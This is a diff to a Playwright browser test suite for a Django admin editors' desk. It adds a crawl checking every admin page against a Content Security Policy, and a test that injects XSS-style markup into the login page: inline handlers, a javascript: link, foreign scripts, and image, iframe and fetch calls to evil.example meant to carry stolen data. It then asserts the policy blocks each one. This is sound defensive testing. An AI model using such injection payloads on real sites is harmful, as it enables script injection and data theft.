@@ -1,5 +1,6 @@
 """Editors at their desk, and what readers, programs and agents see of it at once."""
 
+import re
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
@@ -9,7 +10,7 @@ from playwright.sync_api import Page, expect
 
 from tests.browser.conftest import Open
 from tests.browser.pages import THEMES
-from tests.browser.server import Wire, serving_sample
+from tests.browser.server import Wire, serving_sample, superuser
 
 pytestmark = pytest.mark.browser
 
@@ -25,10 +26,7 @@ def edited(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Wire]:
 def desk(edited: Wire, open_page: Open) -> Iterator[Page]:
     """The desk's first page, after a login with the password that the operator was told."""
     shown = open_page("/admin/", of=edited)
-    shown.page.locator("[name=username]").fill("editor")
-    shown.page.locator("[name=password]").fill(edited.password())
-    shown.page.keyboard.press("Enter")
-    expect(shown.page.get_by_role("heading", level=1)).to_have_text("Dashboard")
+    log_in(shown.page, "editor", edited.password())
     yield shown.page
     assert (shown.said, shown.violated(), shown.elsewhere) == ([], [], [])
 
@@ -139,3 +137,109 @@ def a_story(wire: Wire) -> str:
 
 def stories(wire: Wire) -> dict[str, Any]:
     return {story["chatbotnews_id"]: story["status"] for story in wire.json("/api/today.json")["stories"]}
+
+
+def log_in(page: Page, name: str, password: str) -> None:
+    page.locator("[name=username]").fill(name)
+    page.locator("[name=password]").fill(password)
+    page.keyboard.press("Enter")
+    expect(page.get_by_role("heading", level=1)).to_have_text("Dashboard")
+
+
+def test_every_page_of_the_desk_obeys_its_policy(edited: Wire, open_page: Open) -> None:
+    superuser(edited, "chief", "correct horse battery")
+    shown = open_page("/admin/", of=edited)
+    log_in(shown.page, "chief", "correct horse battery")
+    waiting, seen = ["/admin/"], dict[str, list[str]]()
+    while waiting:
+        path = waiting.pop()
+        kind = re.sub(r"\d+", "1", path)
+        if kind in seen or kind.startswith(("/admin/jsi18n/", "/admin/r/")) or "/export." in kind:
+            continue
+        answer = shown.page.goto(f"{edited.site}{path}")
+        assert answer is not None
+        assert answer.status == 200, path
+        expect(shown.page.locator("html[x-cloak]")).to_have_count(0)  # Alpine has read the page
+        seen[kind] = shown.violated()
+        waiting += shown.page.evaluate(LINKS)
+    assert {path: violated for path, violated in seen.items() if violated} == {}
+    assert (shown.said, shown.elsewhere) == ([], [])
+    assert seen.keys() >= EVERY
+
+
+LINKS = """() => [...document.querySelectorAll("a[href]")].map((link) => new URL(link.href))
+    .filter((url) => url.origin === location.origin && url.pathname.startsWith("/admin/")).map((url) => url.pathname)"""
+EVERY = {
+    "/admin/",
+    "/admin/password_change/",
+    "/admin/auth/user/1/change/",
+    "/admin/auth/group/add/",
+    "/admin/sources/feed/1/change/",
+    "/admin/sources/publication/1/change/",
+    "/admin/sources/publication/replace/",
+    "/admin/sources/rosterrevision/1/change/",
+    "/admin/wire/lexiconterm/import/",
+    "/admin/wire/lexiconterm/1/history/",
+    "/admin/wire/editortake/add/",
+    "/admin/wire/snapshot/1/change/",
+    "/admin/wire/story/1/change/",
+}
+
+
+def test_what_unfold_makes_of_a_page_works_under_the_policy(desk: Page, edited: Wire) -> None:
+    desk.get_by_text("editor", exact=True).click()
+    desk.get_by_text("Dark", exact=True).click()
+    expect(desk.locator("html.dark")).to_have_count(1)
+
+    desk.goto(f"{edited.site}/admin/wire/story/")
+    assert desk.evaluate("getComputedStyle(document.documentElement).getPropertyValue('--color-primary-600')")
+    desk.locator("#result_list tbody input[type=checkbox]").first.check()
+    expect(desk.get_by_placeholder("Reason, stored in the history")).to_be_visible()
+    expect(desk.locator("#changelist-filter")).to_be_hidden()
+    desk.locator("a").filter(has_text="Filters").click()
+    expect(desk.locator("#changelist-filter")).to_be_visible()
+
+    desk.goto(f"{edited.site}/admin/sources/publication/1/change/")
+    feeds = desk.locator("[name$=-url]:not([name*=__prefix__])")
+    before = feeds.count()
+    desk.get_by_text("Add another Feed").click()
+    expect(feeds).to_have_count(before + 1)
+
+    desk.goto(f"{edited.site}/admin/wire/lexiconterm/import/")
+    file = {"name": "terms.csv", "mimeType": "text/csv", "buffer": b"kind,term\na,b\n"}
+    desk.locator("input[type=file]").set_input_files(file)  # type: ignore[arg-type]
+    desk.get_by_role("button", name="Show what changes").click()
+    expect(desk.get_by_text("must have exactly the columns kind, target, term, weight")).to_be_visible()
+
+
+def test_without_javascript_an_editor_logs_in_and_reads_the_desk(edited: Wire, open_page: Open) -> None:
+    page = open_page("/admin/", of=edited, java_script_enabled=False).page
+    log_in(page, "editor", edited.password())
+    page.goto(f"{edited.site}/admin/wire/story/")
+    expect(page.locator("#result_list tbody tr").first).to_be_visible()
+
+
+def test_markup_that_got_into_a_page_runs_no_script_and_sends_nothing_away(edited: Wire, open_page: Open) -> None:
+    shown = open_page("/admin/login/", of=edited)
+    shown.page.evaluate(
+        """async () => {
+          document.body.insertAdjacentHTML("beforeend", `<img src="/none" onerror="window.ran = 'handler'">
+            <a id="link" href="javascript:window.ran = 'link'">x</a><style>body { color: red }</style>
+            <img src="https://evil.example/?stolen"><iframe src="https://evil.example/"></iframe>`);
+          const script = document.createElement("script");
+          script.textContent = "window.ran = 'inline'";
+          const foreign = document.createElement("script");
+          foreign.src = "https://evil.example/x.js";
+          document.body.append(script, foreign);
+          document.getElementById("link").click();
+          await fetch("https://evil.example/?stolen").catch(() => {});
+        }"""
+    )
+    expected = {
+        *("script-src-attr: inline", "script-src-elem: inline", "style-src-elem: inline"),
+        *("img-src: https://evil.example/?stolen", "connect-src: https://evil.example/?stolen"),
+        *("script-src-elem: https://evil.example/x.js", "frame-src: https://evil.example"),
+    }
+    shown.page.wait_for_function("(count) => new Set(window.watched.violated).size >= count", arg=len(expected))
+    assert expected <= set(shown.violated())
+    assert shown.page.evaluate("window.ran") is None
